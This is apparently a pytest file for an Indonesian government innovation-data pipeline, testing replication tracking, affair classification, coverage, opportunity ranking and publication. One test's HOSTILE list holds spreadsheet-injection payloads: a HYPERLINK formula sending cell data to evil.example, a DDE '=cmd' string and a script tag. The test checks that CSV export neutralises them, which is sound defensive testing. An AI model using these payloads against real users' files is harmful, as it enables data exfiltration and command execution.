"""Replication tables on tiny fixtures with known answers: plain functions, no Dagster."""

from __future__ import annotations

import csv
import io
import itertools
import json
import random

import pandas as pd

from jippnas_orchestration.cells import unescape
from jippnas_orchestration.replication.affair_coverage import build_coverage, coverage_links
from jippnas_orchestration.replication.affairs import AFFAIRS, decide_affairs
from jippnas_orchestration.replication.innovation_replications import build_replications
from jippnas_orchestration.replication.portal import public_opportunities, render
from jippnas_orchestration.replication.replication_opportunities import (
    SAME_PROVINCE,
    SAME_TYPE,
    TOP_K,
    best_award,
    build_candidates,
    build_opportunities,
)

# (agency_id, agency_type, province_code)
AGENCIES = pd.DataFrame(
    [
        ("35", "provinsi", "35"),
        ("35.10", "kabupaten", "35"),
        ("35.15", "kabupaten", "35"),
        ("35.78", "kota", "35"),
        ("32.04", "kabupaten", "32"),
        ("32.73", "kota", "32"),
        ("KEMENKES", "kementerian", None),
    ],
    columns=["agency_id", "agency_type", "province_code"],
)
KIND = {a: (t, p) for a, t, p in AGENCIES.itertuples(index=False)}


def innovation(iid, agency, status=None, updated=False, awards=None, **extra):
    kind, province = KIND[agency]
    return {
        "innovation_id": iid,
        "agency_id": agency,
        "agency_type": kind,
        "province_code": province,
        "status": status,
        "update_status": "updated" if updated else "pending",
        "awards": awards,
        "title": extra.get("title", f"Inovasi {iid}"),
        "summary": extra.get("summary"),
        "category": extra.get("category"),
        "replication_count": extra.get("replication_count"),
    }


def log_row(iid, sid, at, agencies, change_id):
    return {
        "innovation_id": iid,
        "submission_id": sid,
        "field": "replicated_by",
        "new_value": json.dumps(agencies),
        "submitted_at": at,
        "change_id": change_id,
    }


def test_replications_follow_the_current_list_with_first_and_last_report():
    innovations = pd.DataFrame(
        [innovation("JIP-A", "35.10", replication_count=3), innovation("JIP-B", "32.73")]
    )
    log = pd.DataFrame(
        [
            log_row("JIP-A", "s1", "2024-01-01T00:00:00+00:00", ["32.04", "32.73"], 1),
            # later: 32.04 withdrawn, 35.78 added, the owner itself listed (not a replication)
            log_row("JIP-A", "s2", "2024-03-01T00:00:00+00:00", ["32.73", "35.78", "35.10"], 2),
            log_row("JIP-B", "s3", "2024-02-01T00:00:00+00:00", ["35"], 3),
            log_row("JIP-B", "s4", "2024-02-02T00:00:00+00:00", [], 4),  # all withdrawn
        ]
    )
    reps, counts = build_replications(log, innovations)
    got = reps.set_index(["innovation_id", "replicating_agency_id"])
    assert sorted(got.index) == [("JIP-A", "32.73"), ("JIP-A", "35.78")]
    assert got.loc[("JIP-A", "32.73"), "submission_id"] == "s1"
    assert got.loc[("JIP-A", "32.73"), "first_reported_at"].startswith("2024-01-01")
    assert got.loc[("JIP-A", "32.73"), "last_reported_at"].startswith("2024-03-01")
    assert got.loc[("JIP-A", "35.78"), "submission_id"] == "s2"
    c = counts.set_index("innovation_id")
    assert int(c.loc["JIP-A", "replication_count_reported"]) == 3
    assert int(c.loc["JIP-A", "replication_count_listed"]) == 2
    assert bool(c.loc["JIP-A", "counts_disagree"])
    assert "JIP-B" not in c.index  # nothing reported, nothing listed any more
    for column in (
        "innovation_id",
        "replicating_agency_id",
        "first_reported_at",
        "last_reported_at",
        "submission_id",
    ):  # the contract's columns
        assert column in reps.columns


def test_affair_source_overrides_lexicon_then_category_then_none():
    innovations = pd.DataFrame(
        [
            innovation("JIP-1", "35.10", title="Antar obat puskesmas"),  # lexicon: kesehatan
            innovation("JIP-2", "35.10", title="Antar obat puskesmas"),  # IGA says pendidikan
            innovation("JIP-3", "35.10", title="Program baru", category="Kesehatan"),
            innovation("JIP-4", "35.10", title="Program baru", category="Tata Kelola Pemerintahan"),
        ]
    )
    iga = pd.DataFrame(
        [
            ("JIP-2", 2022, "IND1", json.dumps(["pendidikan"])),
            ("JIP-1", 2022, "IND2", '["lainnya"]'),
        ],
        columns=["innovation_id", "year", "source_record_id", "category_raw"],
    )
    got = decide_affairs(innovations, iga).set_index("innovation_id")
    assert tuple(got.loc["JIP-1"]) == ("kesehatan", "lexicon")
    assert tuple(got.loc["JIP-2"]) == ("pendidikan", "source")
    assert tuple(got.loc["JIP-3"]) == ("kesehatan", "category")
    assert got.loc["JIP-4", "affair"] is None and got.loc["JIP-4", "decided_by"] == "none"


def _coverage(innovations, affairs, reps):
    links = coverage_links(
        pd.DataFrame(innovations), pd.DataFrame(affairs, columns=["innovation_id", "affair"]), reps
    )
    return build_coverage(AGENCIES, links).set_index(["agency_id", "affair"])


def test_coverage_own_active_or_replicated_never_stopped():
    innovations = [
        innovation("JIP-1", "35.10"),  # active, kesehatan
        innovation("JIP-2", "35.15", status="berhenti"),  # stopped: covers nothing
        innovation("JIP-3", "KEMENKES"),  # a ministry's, replicated by 32.73
        innovation("JIP-4", "35.78", status="berhenti"),  # stopped, replicated by 32.04
    ]
    affairs = [
        ("JIP-1", "kesehatan"),
        ("JIP-2", "kesehatan"),
        ("JIP-3", "kesehatan"),
        ("JIP-4", "sampah"),
    ]
    affairs[3] = ("JIP-4", "lingkungan")
    reps = pd.DataFrame(
        [("JIP-3", "32.73"), ("JIP-4", "32.04"), ("JIP-1", "32.73")],
        columns=["innovation_id", "replicating_agency_id"],
    )
    cov = _coverage(innovations, affairs, reps)
    assert len(cov) == 6 * len(AFFAIRS)  # regions only (no ministry row), every affair
    assert "KEMENKES" not in cov.index.get_level_values(0)
    assert cov.loc[("35.10", "kesehatan"), "covered"]
    assert not cov.loc[("35.15", "kesehatan"), "covered"]
    assert cov.loc[("32.73", "kesehatan"), "innovations"] == 2  # JIP-1 and JIP-3, replicated
    assert cov.loc[("32.73", "kesehatan"), "replicated_innovations"] == 2
    assert not cov.loc[("32.04", "lingkungan"), "covered"]  # replicated a stopped one
    assert int(cov["covered"].sum()) == 2


def test_opportunities_known_best_candidates_and_reasons():
    innovations = pd.DataFrame(
        [
            innovation("JIP-1", "35.10", updated=True, awards="Top 45/2019"),
            innovation("JIP-2", "32.73", updated=True, awards="Top 5 OAPSI/2021; Top 99/2018"),
            innovation("JIP-3", "32.04", awards="Top 5 OAPSI/2022"),  # not updated: after the ready
            innovation("JIP-4", "35.78", updated=True, status="berhenti"),  # stopped: never
            innovation("JIP-5", "KEMENKES", updated=True, awards="Top 45/2020"),  # not a region
        ]
    )
    affairs = pd.DataFrame({"innovation_id": innovations["innovation_id"], "affair": "kesehatan"})
    counts = pd.DataFrame({"innovation_id": ["JIP-1"], "replication_count_listed": [3]})
    cands = build_candidates(innovations, affairs, counts)
    assert cands.set_index("innovation_id")["candidate"].to_dict() == {
        "JIP-1": True,
        "JIP-2": True,
        "JIP-3": True,
        "JIP-4": False,
        "JIP-5": False,
    }
    cells = pd.DataFrame(
        [("35.15", "kesehatan", "kabupaten", "35")],
        columns=["agency_id", "affair", "agency_type", "province_code"],
    )
    got = build_opportunities(cells, cands)
    # JIP-1: 100 + 20 (top tier) + 18 (3 replications) + 15 + 15 = 168
    # JIP-2: 100 + 30 (OAPSI) = 130; JIP-3: 30 (OAPSI) + 15 (kabupaten) = 45
    assert got["innovation_id"].tolist() == ["JIP-1", "JIP-2", "JIP-3"]
    assert got["score"].tolist() == [1.68, 1.30, 0.45]
    assert got["rank"].tolist() == [1, 2, 3]
    assert got["reason"].iloc[0] == (
        "aktif, lengkap dan diperbarui; Top 45 KIPP; sudah direplikasi 3 instansi; "
        "satu provinsi; sesama kabupaten"
    )
    assert got["reason"].iloc[2] == "aktif; Top 5 OAPSI KIPP; sesama kabupaten"
    assert best_award("Top 99/2018; Top 40/2017") == (2, "Top 40 KIPP")


def _brute_force(cells, cands):
    """Every cell against every candidate: the definition the pools must reproduce."""
    rows = []
    c = cands[cands["candidate"]]
    for cell in cells.itertuples(index=False):
        pool = c[(c["affair"] == cell.affair) & (c["agency_id"] != cell.agency_id)]
        total = (
            pool["points"]
            + SAME_PROVINCE * (pool["province_code"] == cell.province_code)
            + SAME_TYPE * (pool["agency_type"] == cell.agency_type)
        )
        best = pool.assign(total=total).sort_values(
            ["total", "innovation_id"], ascending=[False, True]
        )
        rows += [
            (cell.agency_id, cell.affair, i, r + 1)
            for r, i in enumerate(best["innovation_id"].head(TOP_K))
        ]
    return sorted(rows)


def test_pooled_candidates_equal_the_cross_join_on_random_data():
    rng = random.Random(7)
    provinces = ["11", "12", "13", "14", "15", "16"]
    regions = [(p, "provinsi", p) for p in provinces] + [
        (f"{p}.{k:02d}", rng.choice(["kabupaten", "kota"]), p)
        for p in provinces
        for k in range(1, 10)
    ]
    kind = {a: (t, p) for a, t, p in regions}
    affairs = ["kesehatan", "pendidikan", "sosial", "pangan"]
    rows = []
    for n in range(160):
        agency = rng.choice(regions)[0]
        rows.append(
            {
                "innovation_id": f"JIP-{n:04d}",
                "affair": rng.choice(affairs),
                "candidate": rng.random() < 0.9,
                "agency_id": agency,
                "agency_type": kind[agency][0],
                "province_code": kind[agency][1],
                "points": rng.choice([0, 100]) + 10 * rng.randint(0, 3) + 6 * rng.randint(0, 5),
                "ready": False,
                "award": None,
                "replicated": 0,
            }
        )
    cands = pd.DataFrame(rows)
    active = cands[cands["candidate"]]
    covered = set(zip(active["agency_id"], active["affair"]))
    cells = pd.DataFrame(
        [
            (a, f, t, p)
            for (a, t, p), f in itertools.product(regions, affairs)
            if (a, f) not in covered
        ],
        columns=["agency_id", "affair", "agency_type", "province_code"],
    )
    assert len(cells) > 20
    got = build_opportunities(cells, cands)
    assert sorted(
        zip(got["agency_id"], got["affair"], got["innovation_id"], got["rank"])
    ) == _brute_force(cells, cands)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62 tidak boleh jadi rumus",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab di depan",
    "<script>alert('x')</script> Layanan",
    "Baris\r=1+1",
]


def test_hostile_titles_reach_opportunity_files_as_text():
    opp = pd.DataFrame(
        [("35.15", "kesehatan", f"JIP-{i}", 1, 1.5, "aktif", "35.10") for i in range(len(HOSTILE))],
        columns=[
            "agency_id",
            "affair",
            "innovation_id",
            "rank",
            "score",
            "reason",
            "source_agency_id",
        ],
    )
    opp["affair"] = [f"a{i}" for i in range(len(HOSTILE))]
    candidate = pd.DataFrame({"innovation_id": opp["innovation_id"], "title": HOSTILE})
    names = pd.DataFrame(
        {"agency_id": ["35.15", "35.10"], "agency_name": ["=cmd|' /C calc'!A0", "Kab B"]}
    )
    files = render(public_opportunities(opp, candidate, names))
    text = files["opportunities.csv"].decode("utf-8")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    header, body = cells[0], cells[1:]
    assert len(body) == len(HOSTILE)  # a carriage return starts no new row
    titles = [r[header.index("title")] for r in body]
    for cell, original in zip(titles, HOSTILE):
        if original[0] in "=+-@\t":
            assert cell.startswith("'"), cell
        assert unescape(cell) == original
    assert all(r[header.index("agency_name")].startswith("'=") for r in body)
    records = json.loads(files["opportunities.json"])
    assert [r["title"] for r in records] == HOSTILE  # JSON carries the values as they are
    assert set(records[0]) == set(header)


def test_explain_shows_where_an_innovation_has_spread(tmp_path):
    from jippnas_orchestration.explain import explain
    from jippnas_orchestration.harmonize.merge import HARMONIZED_COLUMNS
    from jippnas_orchestration.warehouse import Warehouse

    wh = Warehouse(f"sqlite:///{tmp_path / 'w.sqlite'}")
    row = {c: None for c in HARMONIZED_COLUMNS} | {
        "innovation_id": "JIP-A",
        "title": "Antar obat",
        "agency_id": "35.10",
        "agency_name": "Kabupaten Satu",
        "replication_count": 3,
    }
    wh.replace_table("harmonized_innovations", pd.DataFrame([row]))
    wh.replace_table(
        "innovation_source_map",
        pd.DataFrame(
            [("KIPP", "100001", "JIP-A", "exact", 1.0)],
            columns=["source", "source_record_id", "innovation_id", "match_rule", "match_score"],
        ),
    )
    names = AGENCIES.assign(
        agency_name=[
            "Provinsi P",
            "Kabupaten Satu",
            "Kabupaten Dua",
            "Kota Tiga",
            "Kabupaten Empat",
            "Kota Lima",
            "Kemenkes",
        ]
    )
    wh.replace_table("agencies", names)
    innovations = pd.DataFrame([innovation("JIP-A", "35.10", replication_count=3)])
    reps, counts = build_replications(
        pd.DataFrame(
            [log_row("JIP-A", "sub-1", "2024-05-01T00:00:00+00:00", ["32.73", "35.15"], 1)]
        ),
        innovations,
    )
    wh.replace_table("innovation_replications", reps)
    wh.replace_table("innovation_replication_counts", counts)
    wh.replace_table(
        "innovation_affairs",
        pd.DataFrame(
            [("JIP-A", "kesehatan", "lexicon")], columns=["innovation_id", "affair", "decided_by"]
        ),
    )
    out = io.StringIO()
    explain(wh, "JIP-A", out)
    text = out.getvalue()
    assert "Government affair: kesehatan (decided by lexicon)" in text
    assert "Replications: reported 3, listed 2  (they disagree)" in text
    assert "32.73 Kota Lima  first reported 2024-05-01T00:00:00+00:00 (submission sub-1)" in text
    assert "35.15 Kabupaten Dua" in text


def test_opportunity_files_go_with_each_version_and_make_a_new_one_when_they_change(
    sqlite_url, tmp_path
):
    import hashlib
    from datetime import timedelta

    from jippnas_orchestration.publication.gatekeeper import LINEAGE_TABLE, lineage_row
    from jippnas_orchestration.publication.publish import content_checksum, publish
    from jippnas_orchestration.quality.retention import Retention
    from jippnas_orchestration.schema import ensure_schema
    from jippnas_orchestration.warehouse import Warehouse

    from .test_retention import NOW, candidate, passed

    wh = Warehouse(sqlite_url)
    ensure_schema(wh.engine)
    out = tmp_path / "out"
    df = candidate(0)
    wh.replace_table("portal_candidate", df, primary_key=["innovation_id"])
    stored = wh.read_sql("SELECT * FROM portal_candidate ORDER BY innovation_id")
    ck = content_checksum(stored)
    wh.replace_table(LINEAGE_TABLE, lineage_row(ck, "harmonized-0", len(df), None))
    passed(wh, "harmonized_innovations", "harmonized-0", NOW)
    passed(wh, "portal_candidate", ck, NOW)
    files = {"opportunities.csv": b"a,b\n1,2\n", "opportunities.json": b"[]"}
    first = publish(wh, stored, out, now=NOW, retention=Retention(), extras=files)
    for name, data in files.items():
        assert (out / "portal" / name).read_bytes() == data
        assert first["files"][name] == hashlib.sha256(data).hexdigest()
    same = publish(wh, stored, out, now=NOW + timedelta(hours=1), extras=files)
    assert same.get("unchanged") and same["version"] == first["version"]
    changed = {**files, "opportunities.json": b'[{"rank": 1}]'}
    second = publish(wh, stored, out, now=NOW + timedelta(hours=2), extras=changed)
    assert not second.get("unchanged") and second["version"] != first["version"]
    assert (out / "portal" / "opportunities.json").read_bytes() == b'[{"rank": 1}]'
    assert second["checksum"] == first["checksum"]  # the innovations are the same
